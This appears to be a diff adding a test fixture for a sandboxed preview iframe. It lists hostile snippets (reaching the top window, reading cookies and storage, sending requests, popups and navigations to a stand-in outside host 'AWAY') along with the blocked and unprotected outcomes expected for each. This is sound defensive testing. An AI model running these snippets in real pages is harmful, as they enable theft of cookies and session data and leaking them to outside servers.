@@ -1,0 +1,179 @@
+/**
+ * What hostile code tries in the preview, with the answer that the frame must give, and the one it gets where nothing
+ * protects the app. `AWAY` stands for an address of a server that is not ours.
+ */
+
+/** `code` asks for a value; the answer is that value, or the name of the error. */
+export type Reading = { name: string; code: string; held: string; open: string };
+
+/** A window of the page's own, whose functions nobody has replaced. */
+const realm = "document.body.appendChild(document.createElement('iframe')).contentWindow";
+
+export const reaches: Reading[] = [
+  { name: "parent", code: "parent.document.title", held: "SecurityError", open: "Preview" },
+  { name: "top", code: "top.document.title", held: "SecurityError", open: "App" },
+  { name: "variable of top", code: "top.secret", held: "SecurityError", open: "stolen-variable" },
+  { name: "frame around", code: "frameElement?.ownerDocument.title", held: "undefined", open: "Preview" },
+  {
+    name: "another frame of the app",
+    code: "[...Array(top.length).keys()].map((i) => top[i]).find((each) => each !== parent).document.title",
+    held: "SecurityError",
+    open: "Other",
+  },
+  {
+    name: "a wider domain",
+    code: "(document.domain = 'localhost', top.document.title)",
+    held: "SecurityError",
+    open: "App",
+  },
+  { name: "history of top", code: "top.history.length > 0", held: "SecurityError", open: "true" },
+  { name: "no origin", code: "self.origin === 'null'", held: "true", open: "false" },
+];
+
+export const stores: Reading[] = [
+  {
+    name: "cookie",
+    code: "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)",
+    held: "SecurityError",
+    open: "session=stolen-cookie",
+  },
+  {
+    name: "cookie of a new window",
+    code: `${realm}.document.cookie`,
+    held: "SecurityError",
+    open: "session=stolen-cookie",
+  },
+  { name: "storage", code: `${realm}.localStorage.secret`, held: "SecurityError", open: "stolen-storage" },
+  { name: "session storage", code: `${realm}.sessionStorage.length`, held: "SecurityError", open: "0" },
+  {
+    name: "database",
+    code: "new Promise((yes, no) => { const o = indexedDB.open('x'); o.onsuccess = () => yes('opened'); o.onerror = () => no(o.error); })",
+    held: "SecurityError",
+    open: "opened",
+  },
+  { name: "caches", code: "caches.open('x').then(() => 'opened')", held: "SecurityError", open: "opened" },
+  {
+    name: "cookie store",
+    code: "cookieStore.getAll().then(([first]) => first.value)",
+    held: "SecurityError",
+    open: "stolen-cookie",
+  },
+  {
+    name: "locks",
+    code: "navigator.locks.request('x', () => 'locked')",
+    held: "SecurityError",
+    open: "locked",
+  },
+  {
+    name: "files",
+    code: "navigator.storage.getDirectory().then(() => 'opened')",
+    held: "SecurityError",
+    open: "opened",
+  },
+  {
+    name: "service workers",
+    code: "navigator.serviceWorker.getRegistrations().then((all) => all.length)",
+    held: "SecurityError",
+    open: "0",
+  },
+  {
+    name: "worker",
+    code: "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('ran'); w.onerror = () => no(new TypeError()); })",
+    held: "TypeError",
+    open: "ran",
+  },
+  {
+    name: "the app's own interface",
+    code: "fetch(new URL('/api/health', document.baseURI), { credentials: 'include' }).then((answer) => answer.status)",
+    held: "TypeError",
+    open: "200",
+  },
+];
+
+/** Each sends one request to AWAY/<name>; the browser names that address when it holds it back. */
+export const sendings: { name: string; markup?: string; code?: string }[] = [
+  { name: "fetch", code: "fetch('AWAY/fetch', { mode: 'no-cors' })" },
+  {
+    name: "xhr",
+    code: "const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr'); x.withCredentials = true; x.send();",
+  },
+  { name: "beacon", code: "navigator.sendBeacon('AWAY/beacon', 'x')" },
+  { name: "socket", code: "new WebSocket('AWAY/socket'.replace('http', 'ws'))" },
+  { name: "events", code: "new EventSource('AWAY/events')" },
+  { name: "import", code: "import('AWAY/import')" },
+  { name: "font", code: "new FontFace('x', 'url(AWAY/font)').load()" },
+  { name: "script", markup: '<script src="AWAY/script"></script>' },
+  { name: "style", markup: '<link rel="stylesheet" href="AWAY/style">' },
+  { name: "prefetch", markup: '<link rel="prefetch" href="AWAY/prefetch">' },
+  { name: "preload", markup: '<link rel="preload" as="script" href="AWAY/preload">' },
+  { name: "image", markup: '<img src="AWAY/image">' },
+  { name: "background", markup: '<p style="background: url(AWAY/background)">x</p>' },
+  { name: "video", markup: '<video src="AWAY/video"></video>' },
+  { name: "object", markup: '<object data="AWAY/object"></object>' },
+  { name: "embed", markup: '<embed src="AWAY/embed">' },
+];
+
+/** Each goes to AWAY; `held` is what the page hears (an error's name) or what the browser says. */
+export type Departure = { name: string; markup?: string; code?: string; held: RegExp };
+
+// The frame's own click handler would hold these links back before the browser has to.
+const unheard = 'onclick="event.stopImmediatePropagation()"';
+const click = "document.querySelector('a, button').click()";
+const submit = "document.querySelector('form').submit()";
+
+const topHeld = /allow-top-navigation/;
+
+/** A frame inside the page, which asks for all that the page has not got. */
+const freed = (code: string) =>
+  `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups" srcdoc="<script>${code}</script>"></iframe>`;
+
+export const topDepartures: Departure[] = [
+  { name: "location", code: "top.location = 'AWAY'", held: /^SecurityError$/m },
+  { name: "href", code: "top.location.href = 'AWAY'", held: /^SecurityError$/m },
+  { name: "replace", code: "top.location.replace('AWAY')", held: /^SecurityError$/m },
+  { name: "the frame around", code: "parent.location = 'AWAY'", held: /^SecurityError$/m },
+  { name: "open", code: `${realm}.open('AWAY', '_top')`, held: /^SecurityError$/m },
+  { name: "link", markup: `<a href="AWAY" target="_top" ${unheard}>out</a>`, code: click, held: topHeld },
+  {
+    name: "form",
+    markup: '<form action="AWAY" target="_top" method="post"></form>',
+    code: submit,
+    held: topHeld,
+  },
+  { name: "a frame inside", markup: freed("top.location = 'AWAY'"), held: topHeld },
+];
+
+const windowHeld = /allow-popups/;
+
+export const windowDepartures: Departure[] = [
+  { name: "open", code: `${realm}.open('AWAY')`, held: /^SecurityError$/m },
+  {
+    name: "open in a frame inside",
+    markup: freed("open('AWAY')"),
+    held: windowHeld,
+  },
+  {
+    name: "link",
+    markup: `<a href="AWAY" target="_blank" ${unheard}>out</a>`,
+    code: click,
+    held: windowHeld,
+  },
+  {
+    name: "form",
+    markup: '<form action="AWAY" target="_blank" method="post"></form>',
+    code: submit,
+    held: windowHeld,
+  },
+];
+
+const formHeld = /^Sending form data to 'http.*violates/m;
+const leftHeld = /^The page tried to leave for http/m;
+const form = '<form action="AWAY" method="post"><input name="a" value="1"><button>Go</button></form>';
+
+export const ownDepartures: Departure[] = [
+  { name: "script", code: "location.href = 'AWAY'", held: leftHeld },
+  { name: "meta refresh", markup: '<meta http-equiv="refresh" content="0;url=AWAY">', held: leftHeld },
+  { name: "link", markup: `<a href="AWAY" ${unheard}>out</a>`, code: click, held: leftHeld },
+  { name: "form", markup: form, code: submit, held: formHeld },
+  { name: "button", markup: form, code: click, held: formHeld },
+];
